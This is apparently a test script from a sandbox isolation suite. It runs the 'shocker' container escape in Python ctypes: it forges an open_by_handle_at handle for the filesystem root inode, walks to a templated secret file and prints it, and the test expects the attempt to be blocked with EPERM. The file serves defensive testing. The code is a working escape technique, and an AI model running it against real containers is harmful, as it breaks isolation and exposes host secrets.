# attack: fs_open_by_handle
# category: filesystem
# attempts: the "shocker" escape: name_to_handle_at on scratch, then open_by_handle_at with a forged handle for the filesystem root inode and walk to the secret
# expect: open_by_handle_at fails with EPERM (no CAP_DAC_READ_SEARCH; seccomp)
# control: yes
# canaries: secret_file
import ctypes
import errno
import os


def report(kind, detail):
    print("ATTACK-RESULT:", kind, detail, flush=True)


libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
MAX_HANDLE_SZ = 128


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * MAX_HANDLE_SZ)]


h = FileHandle()
h.handle_bytes = MAX_HANDLE_SZ
mount_id = ctypes.c_int()
if libc.name_to_handle_at(AT_FDCWD, b".", ctypes.byref(h), ctypes.byref(mount_id), 0) != 0:
    e = ctypes.get_errno()
    report("blocked", "name_to_handle_at:" + errno.errorcode.get(e, str(e)))
else:
    mount_fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    # First: reopen scratch itself by handle (needs CAP_DAC_READ_SEARCH).
    fd = libc.open_by_handle_at(mount_fd, ctypes.byref(h), os.O_RDONLY)
    if fd < 0:
        e = ctypes.get_errno()
        report("blocked", "open_by_handle_at:" + errno.errorcode.get(e, str(e)))
    else:
        os.close(fd)
        # Forge a handle for the root directory of the filesystem (ext4: inode 2, generation 0).
        root = FileHandle()
        root.handle_bytes = 8
        root.handle_type = 1
        ctypes.memmove(root.f_handle, (ctypes.c_uint32 * 2)(2, 0), 8)
        rfd = libc.open_by_handle_at(mount_fd, ctypes.byref(root), os.O_RDONLY | os.O_DIRECTORY)
        detail = "open_by_handle_at reopened scratch by handle"
        if rfd >= 0:
            try:
                sfd = os.open("{{SECRET_PATH}}".lstrip("/"), os.O_RDONLY, dir_fd=rfd)
                print(os.read(sfd, 4096).decode("latin-1"))
                os.close(sfd)
                detail += "; read the secret via the forged root handle"
            except OSError as e:
                detail += "; forged root handle opened, secret walk failed: " + errno.errorcode.get(e.errno, "")
            os.close(rfd)
        report("escaped", detail)
